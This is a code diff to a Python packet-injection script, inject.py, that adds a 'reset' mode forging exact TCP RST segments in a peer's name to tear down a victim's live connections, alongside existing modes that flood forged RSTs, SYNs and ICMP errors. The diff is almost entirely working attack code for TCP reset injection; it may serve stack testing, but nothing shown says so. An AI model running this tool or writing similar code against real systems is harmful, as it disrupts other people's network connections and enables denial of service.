@@ -11,6 +11,9 @@ inject.py storm IFACE VICTIM PORT SECONDS
     beside running traffic: RSTs and SYNs at sequence numbers all over the place, and every ICMP
     error about segments under way
 
+inject.py reset IFACE VICTIM PORT SECONDS
+    beside running traffic: exact RSTs, until a new connection begins; fails if none does in time
+
 IFACE leads to VICTIM, and what VICTIM sends comes in there.
 """
 import itertools
@@ -73,14 +76,15 @@ class Connection:
         """What the victim will send next: SND.NXT."""
         return (self.from_victim[TCP].seq + payload_len(self.from_victim)) % SPACE
 
-    def forge(self, flags, offset, ack=None, data=b""):
-        """A segment in the peer's name, `offset` beyond what the victim expects."""
+    def forge(self, flags, offset, ack=None, data=b"", base=None):
+        """A segment in the peer's name, `offset` beyond what the victim expects (or `base`)."""
         like = self.to_victim
+        base = self.receive_next() if base is None else base
         segment = TCP(
             sport=like[TCP].sport,
             dport=like[TCP].dport,
             flags=flags,
-            seq=(self.receive_next() + offset) % SPACE,
+            seq=(base + offset) % SPACE,
             ack=self.send_next() if ack is None else ack % SPACE,
             window=like[TCP].window,
             options=[option for option in like[TCP].options if option[0] == "Timestamp"],
@@ -185,13 +189,31 @@ def storm(connection, seconds):
     return 0 if sent > 100 else 1
 
 
+def reset(connection, seconds):
+    end, sent = time.monotonic() + seconds, 0
+    while time.monotonic() < end:
+        frame = connection.take(0.1)
+        if frame is None or not connection.known():
+            continue
+        if "S" in frame[TCP].flags:
+            print(f"a new connection after {sent} RSTs", flush=True)
+            return 0 if sent > 0 else 1
+        # Only the next segment would make it inexact, and there is time until then.
+        if frame[IP].dst == connection.victim and "R" not in frame[TCP].flags:
+            connection.forge("R", payload_len(frame), base=frame[TCP].seq)
+            sent += 1
+    return 1
+
+
 def main(argv):
-    if len(argv) < 6 or argv[1] not in ("quiet", "storm"):
+    if len(argv) < 6 or argv[1] not in ("quiet", "storm", "reset"):
         sys.exit(__doc__)
     connection = Connection(argv[2], argv[3], int(argv[4]))
     random.seed(1)
     if argv[1] == "storm":
         return storm(connection, float(argv[5]))
+    if argv[1] == "reset":
+        return reset(connection, float(argv[5]))
     split = argv.index("--")
     kinds = argv[5:split]
     if kinds == ["blind"]:
